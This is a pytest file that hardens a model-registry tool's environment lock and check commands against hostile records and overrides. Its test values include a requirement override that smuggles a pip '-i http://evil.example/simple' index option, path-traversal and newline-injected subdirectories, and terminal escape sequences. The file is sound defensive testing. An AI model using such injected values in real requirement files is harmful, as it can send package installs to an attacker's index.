"""`env lock` and `env check` against hostile input: an environment record in the store or as a --target file,
a --with override, a direct_url.json, a tolerance. Each must give a lock of one requirement per line that pip
reads as written, or one line of error; never a traceback, a hang or an escape sequence on the terminal."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shipyard.adapters.flavors import get_flavor
from shipyard.core.environments.capture import SCHEMA, direct_url_source, packages_of, record_problem, to_bytes
from shipyard.core.environments.check import check
from shipyard.core.environments.lock import Pin, lock_of, parse_overrides
from shipyard.core.registry.saving import check_tolerance, save_model
from shipyard.core.registry.service import Registry
from shipyard.errors import IntegrityError, InvalidInputError
from shipyard.wiring import (
    MAX_ENV_RECORD_BYTES,
    Services,
    build,
    flavor,
    model_lock,
    settings_from_environment,
    version_environment,
)
from tests.conftest import cli_env, shipyard

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def vcs(url: str, **extra: Any) -> dict[str, Any]:
    return {"kind": "vcs", "vcs": "git", "url": url, "commit": COMMIT, **extra}


PIP_READS = """
import json, sys, warnings
warnings.simplefilter("ignore")
from pip._internal.network.session import PipSession
from pip._internal.req.req_file import parse_requirements
print(json.dumps([r.requirement for r in parse_requirements(sys.argv[1], session=PipSession())]))
"""


def pip_reads(text: str) -> list[str]:
    """The requirements pip itself reads in a requirements file's text (its own parser: comments, options,
    line continuations and ${VAR} as pip handles them), in a process of its own: importing pip here would
    change the warnings other tests see."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "requirements.txt"
        path.write_text(text)
        done = subprocess.run([sys.executable, "-c", PIP_READS, str(path)], capture_output=True, text=True,
                              timeout=120, check=True)
    return list(json.loads(done.stdout))


# -- the lock: what the record gives --------------------------------------------------------------------------

def test_a_version_with_whitespace_or_too_many_digits_is_refused_never_split_over_lines() -> None:
    for version in ["\n\n1.0", " 1.0 ", "1.0\n", "9" * 5000, "1.0 ; os_name == 'nt'"]:
        with pytest.raises(InvalidInputError, match="which no installer can pin") as err:
            Pin("x", version, None).requirement()
        assert "\n" not in str(err.value) and len(str(err.value)) < 300
    assert Pin("x", "9" * 90, None).requirement() == "x==" + "9" * 90
    assert Pin("x", "2013b", None).requirement() == "x==2013b"


def test_a_vcs_pin_keeps_its_commit_and_subdirectory_or_falls_back_to_the_version() -> None:
    assert Pin("x", "1.0", vcs("https://h/r.git", subdirectory="pkgs/x")).requirement() == \
        f"x @ git+https://h/r.git@{COMMIT}#subdirectory=pkgs/x"
    # after a '#' or '?' the "@COMMIT" would be a fragment or a query: the default branch would install
    for url in ["https://h/r.git#egg=evil", "https://h/r.git?ref=x", "https://h/r\\", "https://h/r.git\\"]:
        pin = Pin("x", "1.0", vcs(url))
        assert pin.requirement() == "x==1.0", url
        assert "\n" not in (pin.comment() or "") and "\\" not in (pin.comment() or "")
    for sub in ["../../etc", "a b", "a\n-e .", "/abs", ["x"], "x#y"]:
        assert Pin("x", "1.0", vcs("https://h/r.git", subdirectory=sub)).requirement() == "x==1.0", sub
    lock = lock_of({"packages": {"x": {"version": "1.0", "requires": [],
                                       "source": vcs("https://h/r.git", subdirectory="pkgs/x")}}}, ["x"])
    assert pip_reads(lock.text()) == [f"x @ git+https://h/r.git@{COMMIT}#subdirectory=pkgs/x"]


def test_direct_url_json_of_any_shape_is_read_without_a_crash() -> None:
    doc = {"url": "https://h/r.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}, "subdirectory": "pkgs/x"}
    assert direct_url_source(json.dumps(doc)) == vcs("https://h/r.git", subdirectory="pkgs/x")
    for text in ["[]", '"x"', "1", '{"url": 1}', '{"url": "file:///x", "dir_info": "yes"}',
                 '{"url": "https://h", "vcs_info": []}', "[" * 100_000]:
        source = direct_url_source(text)
        assert source["kind"] in ("unknown", "local path", "vcs"), text
    assert direct_url_source('{"url": "file:///x", "dir_info": "yes"}')["editable"] is False


def test_requires_with_cycles_and_a_wide_fan_out_close_each_package_once() -> None:
    names = [f"p{i}" for i in range(300)]
    packages = {n: {"version": "1", "requires": [*names, "root", "shipyard"]} for n in names}
    packages["root"] = {"version": "2", "requires": names}
    lock = lock_of({"packages": packages}, ["root", "Root"])
    assert len(lock.pins) == 301 and lock.missing == () and lock.roots == ("root",)
    assert "shipyard" not in {p.name for p in lock.pins}


# -- overrides: what pip would read as something else ---------------------------------------------------------

def test_an_override_pip_would_read_as_a_comment_an_option_or_a_continuation_is_refused() -> None:
    for bad in ['httpx; os_name != " -i http://evil.example/simple #"', 'httpx; os_name != "a #b"',
                'httpx; os_name != "a -i http://evil"', "x @ https://h/a\\", "x @ https://h/a.whl\\"]:
        with pytest.raises(InvalidInputError) as err:
            parse_overrides([bad])
        assert "\n" not in str(err.value), bad
    # what is accepted is read by pip as exactly that requirement, next to the pins
    lock = lock_of({"packages": {"a": {"version": "1", "requires": ["b"]}, "b": {"version": "2", "requires": []}}},
                   ["a"])
    good = ['c; os_name == "posix" and python_version >= "3"', "d[x,y]>=1,<3", "e @ https://h/e-1.0.whl#sha256=00",
            "a==3"]
    text = lock.text(good)
    assert pip_reads(text) == \
        ["a==3", "b==2", 'c; os_name == "posix" and python_version >= "3"', "d[x,y]<3,>=1",
         "e @ https://h/e-1.0.whl#sha256=00"]


# -- env check: a target or model record with values of any type ----------------------------------------------

MODEL = {"schema": SCHEMA, "python": {"version": "3.11.7"}, "os": {"machine": "x86_64"},
         "gpu": {"driver": "535.129.03", "devices": [{"name": "A100", "compute_capability": "8.0"}]},
         "frameworks": {"torch": {"version": "2.3.0+cu121", "cuda": "12.1", "arch": ["sm_80", "sm_90"]}},
         "packages": {"torch": {"version": "2.3.0+cu121"}, "numpy": {"version": "1.26.4"}}}
ESCAPE = "x\n\x1b[31mRED\x1b]0;title\x07\r"


def target(gpu: Any = None, **over: Any) -> dict[str, Any]:
    return {**MODEL, "gpu": gpu, "gpu_absent": None if gpu else "nvidia-smi is not on PATH", **over}


@pytest.mark.parametrize(("model", "target_env", "whats"), [
    (MODEL, target({"devices": 5, "driver": "535.1"}), ["torch GPU"]),
    (MODEL, target({"devices": ["x", None], "driver": "535.1"}), ["torch GPU"]),
    (MODEL, target({"devices": {"a": 1}, "driver": "535.1"}), ["torch GPU"]),
    (MODEL, target({"devices": [{"compute_capability": "abc"}], "driver": "N/A"}), ["torch CUDA driver"]),
    (MODEL, target({"devices": [{"compute_capability": "9" * 5000 + ".0"}], "driver": "9" * 5000}),
     ["torch CUDA driver"]),
    (MODEL, target({"devices": [{"compute_capability": "8.0"}], "driver": [1, "x", None, {"a": 1}]}),
     ["torch CUDA driver"]),
    (MODEL, target({"devices": [{"compute_capability": {"a": 1}}], "driver": {"a": 1}}), ["torch CUDA driver"]),
    (MODEL, target({"devices": [{"compute_capability": 8.6}], "driver": 550}), []),
    (MODEL, target(None, gpu_absent=ESCAPE * 100), ["torch GPU"]),
    (MODEL, target({"devices": [{"compute_capability": "8.0"}], "driver": "550.1"}, python={"version": ESCAPE},
                   os={"machine": ["x86_64"]}, packages={"torch": {"version": ESCAPE}, "numpy": "9" * 5000}),
     ["architecture", "package numpy", "package torch", "python"]),
    ({**MODEL, "frameworks": {"torch": {"cuda": "12.1" + ESCAPE, "arch": [1, None, "sm_" + "9" * 5000, ESCAPE]}}},
     target({"devices": [{"compute_capability": "8.6"}], "driver": "550.1"}), ["torch GPU architecture"]),
    ({**MODEL, "frameworks": {"torch": {"cuda": "9" * 5000}}}, target({"devices": 1}), ["torch GPU"]),
    ({**MODEL, "frameworks": ["torch"], "gpu": "x", "packages": {"torch": {"version": "2.3.0+cu" + "1" * 5000}}},
     target({"devices": [{"compute_capability": "8.0"}]}), ["package torch"]),
])
def test_check_reads_any_value_and_says_each_mismatch_in_one_printable_line(
        model: dict[str, Any], target_env: dict[str, Any], whats: list[str]) -> None:
    found = check(model, target_env, ["torch", "numpy"])
    assert sorted(m.what for m in found) == whats
    for m in found:
        line = m.line()
        assert line.isprintable() and len(line) < 600, line
        json.dumps(m.to_dict())


def test_record_problem_names_a_section_of_the_wrong_type() -> None:
    assert record_problem(MODEL) is None
    assert record_problem({"schema": "shipyard.environment/v1", "packages": {"numpy": "1.26.0"}}) is None
    assert record_problem([]) == "a JSON array, not an object"
    assert record_problem({**MODEL, "packages": ["torch"]}) == "its packages is a JSON array, not an object"
    assert record_problem({**MODEL, "gpu": "abc"}) == "its gpu is a JSON string, not an object"
    assert record_problem({**MODEL, "packages": {"torch": 1}}) == "its package 'torch' is a JSON number"
    assert record_problem({**MODEL, "frameworks": {"torch": "x"}}) == \
        "its framework 'torch' is a JSON string, not an object"
    assert record_problem({**MODEL, "schema": "other/v9"}).startswith("schema 'other/v9', not one of")
    assert packages_of({"packages": ["torch"]}) == {}


# -- the store and the CLI -----------------------------------------------------------------------------------

class Echo:
    """A python-flavor model: importable from this module, so its pickle loads again."""

    def predict(self, inputs: Any) -> Any:
        return inputs


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Services, Path]]:
    """A project with versions whose environment records are hostile, as a pulled or hand-made one can be."""
    root = tmp_path_factory.mktemp("attacks")
    (root / "shipyard.yaml").write_text("")
    svc = build(settings_from_environment({"SHIPYARD_HOME": str(root / ".shipyard")}, root), root)
    folder = root / "m"
    save_model(get_flavor("python"), Echo(), folder, requirements=["numpy"])
    here = json.loads(to_bytes({"schema": SCHEMA, "python": {"version": "3.11.7"},
                                "packages": {"numpy": {"version": "1.26.4", "requires": []}}}))
    records: dict[str, bytes] = {
        "ok": to_bytes(here),
        "pkglist": to_bytes({**here, "packages": ["numpy"]}),
        "fwlist": to_bytes({**here, "frameworks": ["torch"]}),
        "newline": to_bytes({**here, "packages": {"numpy": {"version": "\n\n1.26.4", "requires": []}}}),
        "large": b" " * (MAX_ENV_RECORD_BYTES + 1),
        "escape": to_bytes({**here, "gpu": None, "gpu_absent": ESCAPE,
                            "frameworks": {"torch": {"version": "2.3.0", "cuda": ESCAPE}}}),
    }
    for name, raw in records.items():
        registry = Registry(svc.meta, svc.store, flavor, "tester@ci",
                            env_digest=lambda raw=raw: svc.store.put_bytes(raw))
        registry.register(name, folder, trust_as_registrant=True)
    yield svc, root
    svc.close()


def test_a_hostile_record_in_the_store_is_one_line_of_error(project: tuple[Services, Path]) -> None:
    svc, _ = project
    assert model_lock(svc, svc.registry.resolve("ok@1")).requirements() == ["numpy==1.26.4"]
    for name, message in [("pkglist", "its packages is a JSON array"), ("fwlist", "its frameworks is a JSON array"),
                          ("large", "is larger than 16 MiB")]:
        with pytest.raises(IntegrityError, match=message) as err:
            version_environment(svc, svc.registry.resolve(f"{name}@1"))
        assert "\n" not in str(err.value) and "corrupt" not in str(err.value)
    with pytest.raises(InvalidInputError, match="which no installer can pin"):
        model_lock(svc, svc.registry.resolve("newline@1")).text()


def test_env_check_and_lock_answer_a_hostile_target_or_record_in_one_line(project: tuple[Services, Path],
                                                                         tmp_path: Path) -> None:
    _, root = project
    env = cli_env(SHIPYARD_HOME=str(root / ".shipyard"))
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({**MODEL, "packages": ["numpy"]}))
    # a named pipe nobody writes to is empty, not a wait forever
    done = subprocess.run([sys.executable, "-m", "shipyard", "env", "check", "ok@1", "--target", str(fifo)],
                          cwd=root, env=env, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2 and done.stderr.startswith(f"error: {fifo} is not an environment record")
    for args, message in [(("env", "check", "ok@1", "--target", str(bad)), "its packages is a JSON array"),
                          (("env", "check", "ok@1", "--target", ""), "--target is empty"),
                          (("env", "lock", "pkglist@1", "-o", str(tmp_path / "out.txt")), "its packages is a JSON")]:
        failed = shipyard(*args, env=env, cwd=root, check=False)
        assert failed.returncode != 0 and message in failed.stderr, failed.stderr
        assert failed.stderr.count("\n") == 1 and "Traceback" not in failed.stderr and failed.stdout == ""
    assert not (tmp_path / "out.txt").exists()


def test_env_show_never_sends_a_records_escape_sequence_to_the_terminal(project: tuple[Services, Path]) -> None:
    from shipyard.interfaces.cli.output import plain

    assert plain("a\x1b[31mb\x07c\td\ne [x]") == "a\\x1b[31mb\\x07c\td\ne \\[x]"
    _, root = project
    env = cli_env(SHIPYARD_HOME=str(root / ".shipyard"), COLUMNS="200")
    shown = shipyard("env", "show", "escape@1", env=env, cwd=root).stdout
    assert "\x1b" not in shown and "\x07" not in shown and "\\x1b[31mRED" in shown
    failed = shipyard("env", "show", "fwlist@1", env=env, cwd=root, check=False)
    assert failed.returncode != 0 and failed.stderr.count("\n") == 1
    assert "its frameworks is a JSON array" in failed.stderr


def test_env_lock_replaces_a_file_whole_and_writes_a_pipe_as_it_is(project: tuple[Services, Path],
                                                                   tmp_path: Path) -> None:
    _, root = project
    env = cli_env(SHIPYARD_HOME=str(root / ".shipyard"))
    real, link = tmp_path / "real.txt", tmp_path / "requirements.txt"
    real.write_text("old\n")
    real.chmod(0o600)
    link.symlink_to(real)
    shipyard("env", "lock", "ok@1", "-o", str(link), env=env, cwd=root)
    assert link.is_symlink() and real.read_text().endswith("\nnumpy==1.26.4\n")  # through the link
    assert real.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([real.name, link.name])  # no temp file left
    piped = shipyard("env", "lock", "ok@1", "-o", "/dev/stdout", env=env, cwd=root)
    assert piped.stdout.endswith("\nnumpy==1.26.4\n")


# -- log_model(tolerance=...) --------------------------------------------------------------------------------

def test_a_tolerance_is_any_real_number_and_anything_else_is_one_line() -> None:
    import numpy as np

    assert check_tolerance({"rtol": np.float64(1e-5), "atol": np.int64(1)}) == {"rtol": 1e-5, "atol": 1.0}
    assert check_tolerance({"rtol": np.float32(0.5)}) == {"rtol": 0.5, "atol": 0.0}
    assert str(check_tolerance({"rtol": -0.0})["rtol"]) == "0.0"
    for bad in [{"rtol": 10**400}, {"rtol": 10**5000}, {10**5000: 1}, {"rtol": np.bool_(True)}, {"rtol": "1e-6"},
                {"rtol": np.float64("nan")}, {"atol": -np.inf}]:
        with pytest.raises(InvalidInputError) as err:
            check_tolerance(bad)
        assert "\n" not in str(err.value) and len(str(err.value)) < 200
